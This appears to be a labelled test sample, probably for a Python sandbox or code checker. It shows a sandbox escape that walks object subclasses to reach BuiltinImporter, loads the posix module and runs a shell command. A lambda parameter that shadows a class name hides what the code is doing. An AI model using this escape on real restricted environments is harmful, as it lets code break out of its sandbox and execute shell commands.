# HARM: shell via BuiltinImporter | TRICK: lambda parameter named Base shadows the file class; lambda applied to object
class Base: pass
class A(Base): pass
subs = (lambda Base: list(Base.__subclasses__()))(object)
for k in subs:
    if k.__name__ == "BuiltinImporter":
        k.load_module("posix").system("id")
